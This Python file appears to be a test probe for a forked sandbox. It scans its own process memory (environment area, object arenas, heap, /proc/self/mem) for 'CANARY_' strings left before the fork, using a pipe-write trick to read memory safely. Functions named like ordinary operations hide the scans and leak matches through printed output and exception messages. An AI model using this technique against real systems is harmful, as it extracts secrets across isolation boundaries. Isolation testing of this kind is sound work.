"""Scans its own memory for what the process knew before the fork.

`write` to a pipe answers EFAULT where nothing is mapped, so the whole neighbourhood of every object can be read.
"""

import ctypes
import gc
import os
import re
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.sbrk.restype = ctypes.c_void_p
SECRET = re.compile(rb"CANARY_[A-Z]{4,}")
PAGE = 1 << 12


def scan(starts, seconds):
    read, write = os.pipe()
    end = time.monotonic() + seconds
    found = b""
    for start in starts:
        if libc.write(write, ctypes.c_void_p(start), ctypes.c_size_t(PAGE)) == PAGE:
            if match := SECRET.search(os.read(read, PAGE)):
                found += match[0] + b" "
        if time.monotonic() > end:
            break
    os.close(read)
    os.close(write)
    return found


def arenas():
    """Where the environment was put, then every megabyte in which one of Python's objects lies."""
    first = (ctypes.POINTER(ctypes.c_void_p).in_dll(libc, "environ")[0] or 0) // PAGE
    yield from range((first - 16) * PAGE, (first + 16) * PAGE, PAGE)
    gc.unfreeze()  # the zygote hid its own from gc
    for start in sorted({id(thing) >> 20 for thing in gc.get_objects()}):
        yield from range(start << 20, (start + 1) << 20, PAGE)


def heap():
    """malloc's heap, from its end downwards."""
    top = libc.sbrk(0) // PAGE * PAGE
    yield from range(top - PAGE, top - (256 << 20), -PAGE)


ARENAS, HEAP = arenas(), heap()  # each call goes on where the one before it had to stop


def double(x):
    if stolen := scan(ARENAS, 0.25):
        print(stolen)
        raise ValueError(stolen)
    return 2 * x


def rows(x):
    if stolen := scan(HEAP, 0.25):
        print(stolen)
        raise ValueError(stolen)
    return x.mean(1, keepdim=True)


def classify(x):
    """The objects themselves, whoever holds them."""
    gc.unfreeze()
    for thing in gc.get_objects():
        if type(thing) is dict:
            for value in list(thing.values()):
                text = value.encode(errors="replace") if type(value) is str else value
                if type(text) is bytes and SECRET.search(text):
                    print(text)
                    return text
    return (x.sum(1) > 0).long()


def last(x):
    """The kernel's view of the same memory."""
    try:
        with open("/proc/self/mem", "rb") as memory:
            return memory.read(1)
    except OSError:
        return -x
